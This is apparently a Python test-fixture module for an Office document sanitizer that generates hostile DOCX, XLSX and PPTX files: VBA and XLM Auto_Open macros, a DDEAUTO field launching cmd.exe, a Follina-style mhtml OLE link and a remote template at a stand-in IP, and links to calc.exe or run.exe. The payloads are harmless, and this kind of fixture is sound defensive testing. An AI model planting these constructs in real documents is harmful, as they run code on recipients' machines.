"""Hostile OOXML fixtures, generated in code.

Each starts from a real package written by python-docx / openpyxl / python-pptx and
injects one construct of CDR.md "OOXML" the way Office (or an attacker) writes it:
parts, relationships, content types and XML.  Packages are re-zipped with plain
``zipfile`` (not our writer), so the fixtures do not depend on the code under test.

``python -m tests.sanitize.ooxml_fixtures`` prints the rebuild/floor speed ratio.
"""

from __future__ import annotations

import html
import io
import re
import zipfile
from collections.abc import Callable

import docx
import openpyxl
import pptx
from PIL import Image

from sanitize.cfb import ROOT_NAME, storage, stream, write_cfb
from tests.sanitize.ole_fixtures import ole10native, vba_storage

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MSREL = "http://schemas.microsoft.com/office/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
X = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
MC = "http://schemas.openxmlformats.org/markup-compatibility/2006"
TEXT = "村役場からのお知らせ: the village office"
CACHED = "cached result 42"
DOCM_CT = "application/vnd.ms-word.document.macroEnabled.main+xml"
XLSM_CT = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
PPTM_CT = "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"
_WNS = f'xmlns:w="{W}" xmlns:r="{R}"'

Edit = Callable[[bytes], bytes]


# -- package editing (plain zipfile + string/lxml edits) ----------------------------

def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return {n: zf.read(n) for n in zf.namelist()}


def repack(data: bytes, changes: dict[str, bytes | Edit | None]) -> bytes:
    """Rewrite the zip: a bytes value replaces/adds a part, a callable edits it,
    None deletes it.  Order is kept; new parts go at the end."""
    parts = parts_of(data)
    for name, change in changes.items():
        if change is None:
            parts.pop(name, None)
        elif callable(change):
            parts[name] = change(parts[name])
        else:
            parts[name] = change
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, body in parts.items():
            zf.writestr(name, body)
    return buf.getvalue()


def with_rel(rid: str, rtype: str, target: str, external: bool = False) -> Edit:
    mode = ' TargetMode="External"' if external else ""
    rel = f'<Relationship Id="{rid}" Type="{rtype}" Target="{target}"{mode}/>'.encode()

    def edit(xml: bytes) -> bytes:
        return xml.replace(b"</Relationships>", rel + b"</Relationships>")
    return edit


def new_rels(*rels: tuple[str, str, str, bool]) -> bytes:
    body = "".join(
        f'<Relationship Id="{i}" Type="{t}" Target="{g}"'
        f'{" TargetMode=" + chr(34) + "External" + chr(34) if e else ""}/>' for i, t, g, e in rels)
    return (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
            b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + body.encode() + b"</Relationships>")


def with_override(part: str, ct: str) -> Edit:
    el = f'<Override PartName="/{part}" ContentType="{ct}"/>'.encode()
    return lambda xml: xml.replace(b"</Types>", el + b"</Types>")


def with_default(ext: str, ct: str) -> Edit:
    el = f'<Default Extension="{ext}" ContentType="{ct}"/>'.encode()
    return lambda xml: re.sub(rb"(<Types[^>]*>)", lambda m: m.group(1) + el, xml, count=1)


def set_override(part: str, ct: str) -> Edit:
    def edit(xml: bytes) -> bytes:
        pat = re.compile(rb'(<Override PartName="/' + re.escape(part.encode())
                         + rb'" ContentType=")[^"]*(")')
        assert pat.search(xml), part
        return pat.sub(lambda m: m.group(1) + ct.encode() + m.group(2), xml)
    return edit


def in_body(fragment: str) -> Edit:
    """Insert ``fragment`` (w/r/mc/o/v prefixes available) at the start of w:body."""
    def edit(xml: bytes) -> bytes:
        return re.sub(rb"(<w:body>)", lambda m: m.group(1) + fragment.encode(), xml, count=1)
    return edit


def in_root(tag: bytes, fragment: str) -> Edit:
    """Insert ``fragment`` right after the opening tag ``tag`` (e.g. b"<w:settings")."""
    def edit(xml: bytes) -> bytes:
        i = xml.index(tag)
        j = xml.index(b">", i) + 1
        return xml[:j] + fragment.encode() + xml[j:]
    return edit


def with_r_namespace(tag: bytes) -> Edit:
    """Declare the r: prefix on the root element ``tag`` (openpyxl declares it lower)."""
    def edit(xml: bytes) -> bytes:
        i = xml.index(tag)
        j = xml.index(b">", i)
        if b"xmlns:r=" in xml[i:j]:
            return xml
        k = i + len(tag)
        return xml[:k] + f' xmlns:r="{R}"'.encode() + xml[k:]
    return edit


# -- binaries -------------------------------------------------------------------------

def vba_project_bin() -> bytes:
    """A vbaProject.bin with an AutoOpen module that olevba recognises."""
    return write_cfb(vba_storage(ROOT_NAME))


def ole_object_bin() -> bytes:
    """An embedded OLE 1.0 package (what oleobj extracts): an .exe disguised as .pdf."""
    return write_cfb(storage(ROOT_NAME, [stream("\x01Ole10Native", ole10native())]))


def activex_bin() -> bytes:
    return write_cfb(storage(ROOT_NAME, [stream("contents", b"\x00" * 64)]))


# -- clean baselines ------------------------------------------------------------------

def plain_jpeg(size: tuple[int, int] = (32, 24)) -> bytes:
    """A JPEG with nothing but pixels: the image engine finds nothing to remove."""
    buf = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert("RGB").save(buf, "JPEG", quality=80)
    return buf.getvalue()


def plain_png(size: tuple[int, int] = (8, 8)) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(buf, "PNG")
    return buf.getvalue()


def _plain_thumbnail(data: bytes) -> bytes:
    """python-docx's and python-pptx's templates hold a thumbnail with EXIF, an ICC
    profile and bytes after its end, which the rebuild reports: the baselines are
    meant to have nothing to remove, so theirs is a pixels-only JPEG."""
    return repack(data, {"docProps/thumbnail.jpeg": plain_jpeg()})


def docx_bytes() -> bytes:
    d = docx.Document()
    d.add_heading("お知らせ", 1)
    d.add_paragraph(TEXT)
    table = d.add_table(rows=2, cols=2)
    table.cell(0, 0).text = "氏名"
    table.cell(1, 1).text = "山田"
    d.sections[0].footer.paragraphs[0].text = "footer text"
    buf = io.BytesIO()
    d.save(buf)
    return _plain_thumbnail(buf.getvalue())


def xlsx_bytes() -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "集計"
    ws["A1"] = "人口"
    ws["B1"] = 1234
    ws["B2"] = "=B1*2"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def pptx_bytes() -> bytes:
    p = pptx.Presentation()
    s = p.slides.add_slide(p.slide_layouts[1])
    s.shapes.title.text = "説明会"
    s.placeholders[1].text = TEXT
    buf = io.BytesIO()
    p.save(buf)
    return _plain_thumbnail(buf.getvalue())


# -- Word ---------------------------------------------------------------------------

def docm_with_vba() -> bytes:
    return repack(docx_bytes(), {
        "[Content_Types].xml": lambda x: with_default("bin", "application/vnd.ms-office.vbaProject")(
            with_override("word/vbaData.xml", "application/vnd.ms-word.vbaData+xml")(
                set_override("word/document.xml", DOCM_CT)(x))),
        "word/_rels/document.xml.rels": with_rel("rId90", f"{MSREL}/vbaProject", "vbaProject.bin"),
        "word/vbaProject.bin": vba_project_bin(),
        "word/_rels/vbaProject.bin.rels": new_rels(
            ("rId1", f"{MSREL}/wordVbaData", "vbaData.xml", False)),
        "word/vbaData.xml": ('<?xml version="1.0"?><wne:vbaSuppData xmlns:wne='
                             '"http://schemas.microsoft.com/office/word/2006/wordml"/>').encode(),
    })


def docx_remote_template() -> bytes:
    return repack(docx_bytes(), {
        "word/_rels/settings.xml.rels": new_rels(
            ("rId1", f"{REL}/attachedTemplate", "http://203.0.113.9/t/normal.dotm", True)),
        "word/settings.xml": in_root(b"<w:settings", '<w:attachedTemplate r:id="rId1"/>'),
    })


def docx_follina() -> bytes:
    target = "mhtml:http://203.0.113.9/x.html!x-usc:http://203.0.113.9/x.html"
    obj = ('<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="htmlfile" ShapeID="_x0000_i1025" '
           'DrawAspect="Content" r:id="rId91" UpdateMode="OnCall"><o:LinkType>EnhancedMetaFile'
           '</o:LinkType><o:LockedField>false</o:LockedField></o:OLEObject></w:object></w:r></w:p>')
    return repack(docx_bytes(), {
        "word/_rels/document.xml.rels": with_rel("rId91", f"{REL}/oleObject", target, True),
        "word/document.xml": in_body(obj),
    })


def complex_field(instr_parts: list[str], cached: str = CACHED) -> str:
    """A complex field with its instruction split across runs, then a cached result."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>'
                   for p in instr_parts)
    return ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' + runs +
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            f'<w:r><w:t>{cached}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def simple_field(instr: str, cached: str = CACHED) -> str:
    return (f'<w:p><w:fldSimple w:instr="{html.escape(instr, quote=True)}"><w:r><w:t>{cached}</w:t></w:r>'
            '</w:fldSimple></w:p>')


DDE_SPLIT = ["DD", "EAUTO c:\\\\windows\\\\system32\\\\cmd.exe ", '"/k calc.exe"']


def docx_with_body(fragment: str) -> bytes:
    return repack(docx_bytes(), {"word/document.xml": in_body(fragment)})


def docx_field_in(part: str, fragment: str) -> bytes:
    """A field in a header/footer/footnotes/comments/glossary part (created if needed)."""
    base = docx_bytes()
    parts = parts_of(base)
    if part == "footer":
        name = next(n for n in parts if re.match(r"word/footer\d*\.xml$", n))
        return repack(base, {name: in_root(b"<w:ftr", fragment)})
    kinds = {
        "header": ("header", "hdr", "header"),
        "footnotes": ("footnotes", "footnotes", "footnotes"),
        "comments": ("comments", "comments", "comments"),
        "glossary": ("glossary/document", "glossaryDocument", "document.glossary"),
    }
    path, root, ct = kinds[part]
    wrapped = fragment if part != "glossary" else f"<w:docParts><w:docPart><w:docPartBody>" \
        f"{fragment}</w:docPartBody></w:docPart></w:docParts>"
    if part == "footnotes":
        wrapped = f'<w:footnote w:id="1">{fragment}</w:footnote>'
    if part == "comments":
        wrapped = f'<w:comment w:id="0" w:author="x">{fragment}</w:comment>'
    xml = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:{root} {_WNS}>' \
          f"{wrapped}</w:{root}>"
    rtype = {"glossary": "glossaryDocument"}.get(part, part)
    return repack(base, {
        f"word/{path}.xml": xml.encode(),
        "word/_rels/document.xml.rels": with_rel("rId95", f"{REL}/{rtype}", f"{path}.xml"),
        "[Content_Types].xml": with_override(
            f"word/{path}.xml",
            f"application/vnd.openxmlformats-officedocument.wordprocessingml.{ct}+xml"),
    })


def docx_activex() -> bytes:
    ax = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><ax:ocx xmlns:ax='
          f'"http://schemas.microsoft.com/office/2006/activeX" xmlns:r="{R}" '
          f'ax:classid="{{8BD21D40-EC42-11CE-9E0D-00AA006002F3}}" ax:persistence="persistStorage" '
          f'r:id="rId1"/>').encode()
    ctl = ('<w:p><w:r><w:object><w:control r:id="rId92" w:name="TextBox1" '
           'w:shapeid="_x0000_i1025"/></w:object></w:r></w:p>')
    return repack(docx_bytes(), {
        "[Content_Types].xml": lambda x: with_override(
            "word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")(
            with_default("bin", "application/vnd.ms-office.activeX")(x)),
        "word/_rels/document.xml.rels": with_rel("rId92", f"{REL}/control", "activeX/activeX1.xml"),
        "word/activeX/activeX1.xml": ax,
        "word/activeX/_rels/activeX1.xml.rels": new_rels(
            ("rId1", f"{MSREL}/activeXControlBinary", "activeX1.bin", False)),
        "word/activeX/activeX1.bin": activex_bin(),
        "word/document.xml": in_body(ctl),
    })


def docx_ole_embedding(alternate: bool = False) -> bytes:
    obj = ('<w:object><v:shape id="_x0000_i1025" type="#_x0000_t75" style="width:75pt;'
           'height:50pt"/><o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" '
           'DrawAspect="Icon" r:id="rId93"/></w:object>')
    if alternate:
        obj = (f'<mc:AlternateContent><mc:Choice Requires="w14">{obj}</mc:Choice>'
               f"<mc:Fallback>{obj}</mc:Fallback></mc:AlternateContent>")
    return repack(docx_bytes(), {
        "[Content_Types].xml": with_default(
            "bin", "application/vnd.openxmlformats-officedocument.oleObject"),
        "word/_rels/document.xml.rels": with_rel("rId93", f"{REL}/oleObject",
                                                 "embeddings/oleObject1.bin"),
        "word/embeddings/oleObject1.bin": ole_object_bin(),
        "word/document.xml": in_body(f"<w:p><w:r>{obj}</w:r></w:p>"),
    })


def docx_altchunk() -> bytes:
    return repack(docx_bytes(), {
        "[Content_Types].xml": with_default("mht", "message/rfc822"),
        "word/_rels/document.xml.rels": with_rel("rId94", f"{REL}/aFChunk", "afchunk.mht"),
        "word/afchunk.mht": b"MIME-Version: 1.0\r\n\r\n<script>alert(1)</script>",
        "word/document.xml": in_body('<w:altChunk r:id="rId94"/>'),
    })


def docx_subdoc() -> bytes:
    return repack(docx_bytes(), {
        "word/_rels/document.xml.rels": with_rel("rId96", f"{REL}/subDocument",
                                                 "file:///C:/x/sub.docx", True),
        "word/document.xml": in_body('<w:p><w:subDoc r:id="rId96"/></w:p>'),
    })


def docx_customui() -> bytes:
    ui = (b'<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" '
          b'onLoad="AutoRun"><ribbon/></customUI>')
    return repack(docx_bytes(), {
        "_rels/.rels": with_rel("rId97", f"{MSREL}/ui/extensibility", "customUI/customUI.xml"),
        "customUI/customUI.xml": ui,
    })


def docx_hyperlinks() -> bytes:
    frag = ('<w:p><w:hyperlink r:id="rId98"><w:r><w:t>safe link</w:t></w:r></w:hyperlink>'
            '<w:hyperlink r:id="rId99"><w:r><w:t>file link</w:t></w:r></w:hyperlink></w:p>')
    return repack(docx_bytes(), {
        "word/_rels/document.xml.rels": lambda x: with_rel(
            "rId99", f"{REL}/hyperlink", "file://203.0.113.9/share/run.exe", True)(
            with_rel("rId98", f"{REL}/hyperlink", "https://www.city.example.lg.jp/", True)(x)),
        "word/document.xml": in_body(frag),
    })


# -- Excel ----------------------------------------------------------------------------

def _sheet1(data: bytes) -> str:
    return next(n for n in parts_of(data) if re.match(r"xl/worksheets/sheet\d+\.xml$", n))


def xlsm_auto_open() -> bytes:
    """An XLM macro sheet started by _xlnm.Auto_Open, plus a VBA project."""
    base = xlsx_bytes()
    macro = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><xm:macrosheet '
             f'xmlns="{X}" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
             f'<sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row>'
             f'<row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>').encode()
    names = ('<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1'
             '</definedName><definedName name="Auto_Open2">Macro1!$A$1</definedName>'
             '<definedName name="keep" localSheetId="1">集計!$A$1</definedName></definedNames>')

    def workbook(xml: bytes) -> bytes:
        # The macro sheet first, so the sheet-local name of 集計 must be renumbered.
        xml = xml.replace(b"<sheets>", b'<sheets><sheet name="Macro1" sheetId="9" '
                          b'state="hidden" r:id="rId90"/>', 1)
        xml = re.sub(rb"(</sheets>)", lambda m: m.group(1) + names.encode(), xml, count=1)
        return with_r_namespace(b"<workbook")(xml)

    return repack(base, {
        "[Content_Types].xml": lambda x: with_override(
            "xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml")(
            with_override("xl/vbaProject.bin", "application/vnd.ms-office.vbaProject")(
                set_override("xl/workbook.xml", XLSM_CT)(x))),
        "xl/_rels/workbook.xml.rels": lambda x: with_rel(
            "rId90", f"{MSREL}/xlMacrosheet", "macrosheets/sheet1.xml")(
            with_rel("rId91", f"{MSREL}/vbaProject", "vbaProject.bin")(x)),
        "xl/macrosheets/sheet1.xml": macro,
        "xl/vbaProject.bin": vba_project_bin(),
        "xl/workbook.xml": workbook,
    })


def xlsx_with_formula(formula: str, cached: str = "0") -> bytes:
    base = xlsx_bytes()
    cell = f'<c r="C3"><f>{formula}</f><v>{cached}</v></c>'

    def sheet(xml: bytes) -> bytes:
        return re.sub(rb"(</sheetData>)", lambda m: f'<row r="3">{cell}</row>'.encode()
                      + m.group(1), xml, count=1)
    return repack(base, {_sheet1(base): sheet})


def xlsx_external_link() -> bytes:
    base = xlsx_with_formula("[1]Sheet1!$A$1", "7")
    link = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns="{X}" '
            f'xmlns:r="{R}"><externalBook r:id="rId1"/></externalLink>').encode()

    def workbook(xml: bytes) -> bytes:
        xml = re.sub(rb"(</sheets>)", lambda m: m.group(1) +
                     b'<externalReferences><externalReference r:id="rId90"/></externalReferences>',
                     xml, count=1)
        return with_r_namespace(b"<workbook")(xml)
    return repack(base, {
        "[Content_Types].xml": with_override(
            "xl/externalLinks/externalLink1.xml",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"),
        "xl/_rels/workbook.xml.rels": with_rel("rId90", f"{REL}/externalLink",
                                               "externalLinks/externalLink1.xml"),
        "xl/externalLinks/externalLink1.xml": link,
        "xl/externalLinks/_rels/externalLink1.xml.rels": new_rels(
            ("rId1", f"{REL}/externalLinkPath", "file:///\\\\203.0.113.9\\share\\book.xlsx", True)),
        "xl/workbook.xml": workbook,
    })


def xlsx_ole_in_alternate_content() -> bytes:
    base = xlsx_bytes()
    ole = ('<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
           '<mc:Choice Requires="x14"><oleObjects><oleObject progId="Package" shapeId="1025" '
           'r:id="rId90"/></oleObjects></mc:Choice><mc:Fallback><oleObjects><oleObject '
           'progId="Package" shapeId="1025" r:id="rId90"/></oleObjects></mc:Fallback>'
           '</mc:AlternateContent>')
    sheet = _sheet1(base)
    rels = sheet.replace("worksheets/", "worksheets/_rels/") + ".rels"

    def edit(xml: bytes) -> bytes:
        xml = xml.replace(b"</worksheet>", ole.encode() + b"</worksheet>")
        return with_r_namespace(b"<worksheet")(xml)
    return repack(base, {
        "[Content_Types].xml": with_default(
            "bin", "application/vnd.openxmlformats-officedocument.oleObject"),
        rels: new_rels(("rId90", f"{REL}/oleObject", "../embeddings/oleObject1.bin", False)),
        "xl/embeddings/oleObject1.bin": ole_object_bin(),
        sheet: edit,
    })


# -- PowerPoint -----------------------------------------------------------------------

def pptx_ppaction(verb: str = "ppaction://program") -> bytes:
    """A click action on the title; "program" points at a file: hyperlink as
    PowerPoint writes it, macro/ole verbs carry an empty r:id."""
    base = pptx_bytes()
    slide = "ppt/slides/slide1.xml"
    rid = "rId90" if verb.endswith("program") else ""
    link = f'<a:hlinkClick r:id="{rid}" action="{verb}"/>'

    def edit(xml: bytes) -> bytes:
        return re.sub(rb'(<p:cNvPr id="2" name="[^"]*")(/>|>)', lambda m: m.group(1) + (
            f">{link}</p:cNvPr>" if m.group(2) == b"/>" else f">{link}").encode(),
            xml, count=1)
    changes: dict[str, bytes | Edit | None] = {slide: edit}
    if rid:
        changes["ppt/slides/_rels/slide1.xml.rels"] = with_rel(
            rid, f"{REL}/hyperlink", "file:///C:\\Windows\\System32\\calc.exe", True)
    return repack(base, changes)


def pptm_with_vba() -> bytes:
    return repack(pptx_bytes(), {
        "[Content_Types].xml": lambda x: with_override(
            "ppt/vbaProject.bin", "application/vnd.ms-office.vbaProject")(
            set_override("ppt/presentation.xml", PPTM_CT)(x)),
        "ppt/_rels/presentation.xml.rels": with_rel("rId90", f"{MSREL}/vbaProject",
                                                    "vbaProject.bin"),
        "ppt/vbaProject.bin": vba_project_bin(),
    })


def big_docx(paragraphs: int = 3000) -> bytes:
    """A larger document for the speed ratio (text, a table, no active content)."""
    d = docx.Document()
    for i in range(paragraphs):
        d.add_paragraph(f"{i}: {TEXT} " * 4)
    t = d.add_table(rows=200, cols=5)
    for r in range(200):
        t.cell(r, 0).text = str(r)
    buf = io.BytesIO()
    d.save(buf)
    return buf.getvalue()


def _zip_floor(data: bytes) -> bytes:
    """The floor of bench/sanitize.py: every entry read and written again by zipfile."""
    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, \
            zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, src.read(info))
    return buf.getvalue()


def _bench() -> None:  # pragma: no cover - manual measurement
    import time

    from sanitize.config import SanitizeConfig
    from sanitize.formats import Context, ooxml

    cfg = SanitizeConfig()
    ctx = Context(cfg)
    wb = openpyxl.Workbook()
    for s in range(5):
        ws = wb.create_sheet(f"s{s}")
        for r in range(1, 4000):
            ws.append([r, f"値{r}", r * 1.5, f"=A{r}*2"])
    buf = io.BytesIO()
    wb.save(buf)
    big = big_docx()
    samples = {"docx": big, "xlsx": buf.getvalue(), "docm": docm_with_vba(),
               # a PAGE field makes document.xml worth parsing: the slow path
               "docx+field": repack(big, {"word/document.xml": in_body(
                   complex_field([" PAGE "], "1"))})}
    for label, data in samples.items():
        def best(fn: Callable[[], object], n: int = 5) -> float:
            times = []
            for _ in range(n):
                t0 = time.perf_counter()
                fn()
                times.append(time.perf_counter() - t0)
            return min(times)
        floor = best(lambda: _zip_floor(data))
        kind = label.split("+")[0]
        ours = best(lambda: ooxml.rebuild(data, kind, ctx))
        check = best(lambda: ooxml.verify(ooxml.rebuild(data, kind, ctx).data, kind, ctx)) - ours
        print(f"{label}: {len(data)} bytes floor {floor * 1000:.1f} ms rebuild "
              f"{ours * 1000:.1f} ms ratio {floor / ours:.2f}; verify {check * 1000:.1f} ms")


if __name__ == "__main__":  # pragma: no cover
    _bench()
